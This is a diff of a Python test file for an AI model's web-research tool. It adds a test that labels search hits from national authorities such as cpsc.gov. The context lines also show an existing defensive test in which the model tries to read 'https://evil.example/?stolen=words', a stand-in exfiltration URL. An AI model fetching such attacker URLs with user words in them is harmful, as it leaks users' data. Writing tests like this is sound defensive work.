@@ -94,6 +94,18 @@ async def test_a_model_that_searches_too_little_is_reminded_and_then_helped(make
     assert "1 searches and 0 pages" in reminded[0]
 
 
+async def test_the_model_hears_which_hits_are_authorities_of_the_readers_country(make):
+    guide = Guide(search("chains"), search("more"))
+    ctx = context(make, guide)
+    ctx.search = make.Search((CHAIN, "https://www.cpsc.gov/chains"))
+    await research.run(wanted(), ctx)
+    (found,) = guide.results(0)
+    assert found["authorities"] == '<material kind="authorities">\nhttps://www.cpsc.gov/chains\n</material>'
+    ctx = context(make, guide := Guide(search("chains")))
+    await research.run(wanted(), ctx)
+    assert "authorities" not in guide.results(0)[0]
+
+
 async def test_a_page_that_nothing_named_is_not_read(make):
     guide = Guide(read(FAQ, "https://evil.example/?stolen=words"), search("chain"), read(FAQ))
     ctx = context(make, guide)
